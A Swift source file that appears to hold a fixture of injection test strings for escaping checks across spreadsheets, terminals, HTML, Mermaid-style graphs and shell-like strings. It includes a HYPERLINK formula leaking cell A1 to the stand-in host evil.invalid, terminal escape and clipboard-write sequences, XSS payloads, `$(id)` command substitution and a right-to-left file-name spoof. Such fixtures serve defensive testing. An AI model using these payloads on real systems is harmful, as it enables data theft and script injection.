/// Texts that were made to be more than texts, each for some format that we write. Where the beginning
/// decides, each has its own; what harms anywhere stands together.
enum Payload {
  static let all: [String] = [
    // A quote that is no `Character` of its own.
    "\"\u{301}", "\"\u{200D};=HYPERLINK(\"http://evil.invalid/?\"&A1);\"", "'\u{301}",
    "x\"\u{301}, URL=\"javascript:alert(1)\"\u{301}, tooltip=\"y", "\\\"\u{301}]",
    // Spreadsheets.
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "a;=1,=1\r\n=1;2", "\u{FF1D}1+1",
    "\u{FF0B}1", " \u{200B}=1", "\"=1",
    // Terminals: controls in seven and in eight bits; clearing, titles, links, the clipboard.
    "\u{0}", "\u{1B}[2J\u{1B}[H\u{1B}]0;owned\u{7}",
    "\u{9B}31m\u{9D}0;x\u{9C}\u{8}\u{7F}\u{1B}[1mno\u{1B}[0m",
    "\u{1B}]8;;http://evil.invalid\u{1B}\\x\u{1B}]52;c;ZQ==\u{7}", "a\nmaillon: verified",
    // The order of reading, and what is hardly a character.
    "\u{202E}fdp.exe\u{2066}a\u{2069}\u{200F}\u{61C}", "a\u{2028}b\u{2029}c",
    "\u{FEFF}a\u{FFFF}\u{378}",
    "\u{301}\u{301}first",
    // Pages and drawings.
    "</script><script>alert(1)</script>]]>-->", "\"><img src=x onerror=alert(1)>",
    "&lt;&#60;&amp javascript:alert(1)", "</style><svg onload=x> url(http://evil.invalid)",
    // Graphs.
    "#quot;]-->x`*b*`", "%%{init: {\"securityLevel\":\"loose\"}}%%", "style a:b#c;",
    "\\N\\G\\l|}{<a>\\",
    // Programs.
    "%s%n${x}$(id)`id`{\"a\":1}", "--help", "null",
    // What is only a text, and must stay one.
    "مرحبا שלום", "👩\u{200D}👩\u{200D}👧🏴󠁧󠁢󠁳󠁣󠁴󠁿", "नमस्ते e\u{301}", String(repeating: "very-long-", count: 9),
  ]
}
